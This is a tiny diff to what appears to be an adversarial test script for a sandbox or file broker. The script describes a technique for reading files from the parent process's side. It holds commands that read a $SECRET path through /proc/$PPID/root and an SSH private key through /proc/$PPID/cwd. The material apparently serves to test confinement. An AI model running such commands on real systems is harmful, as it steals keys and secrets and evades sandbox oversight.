@@ -1,5 +1,4 @@
 # technique: /proc/$PPID/root and /proc/$PPID/cwd: resolve paths from the broker's side
-# fast: yes
 . ./.adv/world.env
 cat "/proc/$PPID/root$SECRET"
 cat "/proc/$PPID/cwd/../.ssh/id_rsa"
